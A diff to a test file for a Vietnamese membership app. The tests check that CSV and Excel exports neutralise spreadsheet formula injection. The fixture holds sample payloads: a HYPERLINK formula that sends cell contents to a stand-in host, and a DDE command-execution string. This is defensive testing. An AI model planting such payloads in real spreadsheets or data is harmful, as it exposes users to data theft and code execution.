@@ -95,8 +95,9 @@ def test_files_use_vietnamese_choices_whatever_the_screen_language(org_tree):
     assert rows[0][headers.index("Trạng thái")] == "Chính thức"
 
 
+# Free text a spreadsheet would run (a name cannot hold it: names are letters).
 FORMULAS = {
-    "full_name": '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
+    "birth_place": '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
     "permanent_address": "=cmd|' /C calc'!A0",
     "temporary_address": "@SUM(1+1)",
     "occupation": "+84 912 345 678",
@@ -119,11 +120,11 @@ def test_text_a_spreadsheet_would_run_is_neutralized_and_imports_back_unchanged(
         csv_module.reader(io.StringIO(csv.decode("utf-8-sig").splitlines()[1]))
     )
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
-    assert "'" + FORMULAS["full_name"] in cells
+    assert "'" + FORMULAS["birth_place"] in cells
     xlsx = client.get(reverse("members:export"), {"format": "xlsx"}).content
     sheet = load_workbook(io.BytesIO(xlsx)).active
     assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
-    assert FORMULAS["full_name"] in [cell.value for cell in sheet[2]]
+    assert FORMULAS["birth_place"] in [cell.value for cell in sheet[2]]
     for name, content in (("m.csv", csv), ("m.xlsx", xlsx)):
         result = import_members(name, content, by=hothau_secretary)
         assert (result.created, result.updated, result.unchanged) == (0, 0, 1), (
